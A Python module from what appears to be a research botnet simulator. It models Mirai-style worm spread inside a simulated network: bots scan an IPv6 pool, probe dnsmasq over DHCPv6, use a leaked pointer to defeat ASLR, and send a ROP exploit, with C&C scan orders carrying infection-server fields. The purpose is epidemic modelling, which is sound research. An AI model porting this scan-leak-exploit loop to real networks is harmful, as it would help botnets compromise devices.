"""Mirai self-propagation: exploit-armed scanning.

The paper's §V-A2 use case runs DDoSim to test epidemic models of botnet
spread ("researchers can ... extract the number of infected devices in
Devs at any time step").  For spread there must be bot-to-bot
propagation, so — in the spirit of exploit-carrying IoT worms — each bot
can be ordered to scan the address pool and fire the *same* memory-error
exploit chain the Attacker used (probe -> leak -> RELAYFORW ROP against
dnsmasq Devs).

Scan configuration arrives from the C&C as JSON::

    {
      "pool_prefix": "2001:db8:0:1::",     # /64 the Devs live in (zero-host)
      "first": 1, "last": 200,              # interface-id sweep range
      "probes_per_second": 2.0,
      "target_binary": { ... BinaryImage metadata ... },
      "urls": {"host": "...", "port": 80}
    }

Epidemiologically this yields a contact process with per-bot rate
``probes_per_second * (vulnerable_hosts / pool_size)`` — what
:mod:`repro.analysis.epidemic` fits its SI model against.
"""

from __future__ import annotations

import json
from typing import Optional

from repro.binaries.binfmt import BinaryImage
from repro.netsim.address import Ipv6Address
from repro.netsim.process import AnyOf, Timeout
from repro.services import dhcp6
from repro.services.exploits import ExploitKit, InfectionUrls, parse_leaked_pointer

PROBE_TIMEOUT = 2.0


def scan_config_json(
    pool_prefix: str,
    first: int,
    last: int,
    target_binary: BinaryImage,
    file_server_host: str,
    file_server_port: int = 80,
    probes_per_second: float = 2.0,
) -> str:
    """Build the C&C ``SCAN`` order payload."""
    return json.dumps(
        {
            "pool_prefix": pool_prefix,
            "first": first,
            "last": last,
            "probes_per_second": probes_per_second,
            "target_binary": target_binary.metadata_dict(),
            "urls": {"host": file_server_host, "port": file_server_port},
        }
    )


def _binary_from_config(metadata: dict) -> BinaryImage:
    return BinaryImage.from_metadata(metadata)


def scan_loop(ctx, config: dict):
    """Generator: endless random scan over the configured pool."""
    try:
        prefix = config["pool_prefix"]
        first = int(config["first"])
        last = int(config["last"])
        rate = float(config.get("probes_per_second", 2.0))
        target = _binary_from_config(config["target_binary"])
        urls = InfectionUrls(
            file_server_host=config["urls"]["host"],
            file_server_port=int(config["urls"].get("port", 80)),
        )
    except (KeyError, TypeError, ValueError) as error:
        ctx.log(f"mirai-scanner: bad config: {error}")
        return
    kit = ExploitKit(target, urls)
    # pool_prefix is the zero-host textual form, e.g. "2001:db8:0:1::".
    base = Ipv6Address.parse(prefix).value
    interval = 1.0 / max(rate, 1e-6)
    sock = ctx.netns.udp_socket()
    my_address = ctx.netns.address()
    try:
        while True:
            yield Timeout(ctx.sim, interval)
            iid = ctx.rng.randint(first, last)
            victim = Ipv6Address(base | iid)
            if victim == my_address:
                continue
            yield from probe_and_exploit(ctx, sock, victim, kit)
    finally:
        sock.close()


def probe_and_exploit(ctx, sock, victim, kit: ExploitKit):
    """Generator: one probe -> leak -> exploit cycle against ``victim``.

    Returns True when the exploit was fired (not necessarily landed —
    the scanner cannot observe the victim's fate directly).
    """
    tracer = ctx.sim.obs.tracer
    if tracer.enabled:
        scanner, target = str(ctx.netns.address()), str(victim)
        tracer.emit("scan.probe", ctx.sim.now, victim=target,
                    scanner=scanner, vector="dhcp6")
    probe = dhcp6.Dhcp6Message(dhcp6.MSG_INFORMATION_REQUEST, transaction_id=0x51)
    sock.sendto(probe.encode(), victim, dhcp6.SERVER_PORT)
    # Wait for a reply *from this victim*: a stale reply from an earlier
    # probe must not be mistaken for the current victim's leak — with
    # ASLR a wrong slide crashes the daemon instead of recruiting it.
    deadline = ctx.sim.now + PROBE_TIMEOUT
    payload = None
    while True:
        remaining = deadline - ctx.sim.now
        if remaining <= 0:
            _probe_result(ctx, victim, "timeout")
            return False  # nothing there (or already infected, daemon gone)
        response = yield from _receive_with_timeout(ctx, sock, remaining)
        if response is None:
            _probe_result(ctx, victim, "timeout")
            return False
        candidate_payload, (source, _port) = response
        if source == victim:
            payload = candidate_payload
            break
    leaked = _leak_from_reply(payload)
    slide = kit.slide_for_victim(leaked)
    if slide is None:
        _probe_result(ctx, victim, "no_slide")
        return False
    _probe_result(ctx, victim, "leaked")
    exploit = dhcp6.make_relay_forw(
        kit.rop_payload(slide), link=victim, peer=victim
    )
    sock.sendto(exploit.encode(), victim, dhcp6.SERVER_PORT)
    if tracer.enabled:
        # ``scanner`` parents this attempt under the probe that leaked
        # the slide in the causal tree.
        tracer.emit("exploit.attempt", ctx.sim.now, vector="dhcp6",
                    target=target, slide=slide,
                    program=kit.target.program_key, scanner=scanner)
    return True


def _probe_result(ctx, victim, status: str) -> None:
    """Close one probe in the trace: ``scan.result`` with its outcome."""
    tracer = ctx.sim.obs.tracer
    if tracer.enabled:
        tracer.emit("scan.result", ctx.sim.now, victim=str(victim),
                    scanner=str(ctx.netns.address()), status=status)


def _receive_with_timeout(ctx, sock, timeout: float):
    """Generator: recvfrom with a deadline; None on timeout."""
    receive = sock.recvfrom()
    timer = Timeout(ctx.sim, timeout)
    winner = yield AnyOf(ctx.sim, [receive, timer])
    if winner is timer:
        sock.cancel_waiter(receive)
        return None
    timer.cancel()
    return winner.value


def _leak_from_reply(payload: Optional[bytes]) -> Optional[int]:
    if payload is None:
        return None
    try:
        message = dhcp6.Dhcp6Message.decode(payload)
    except dhcp6.Dhcp6DecodeError:
        return None
    status = message.option(dhcp6.OPTION_STATUS_CODE)
    if status is None:
        return None
    return parse_leaked_pointer(status.data)
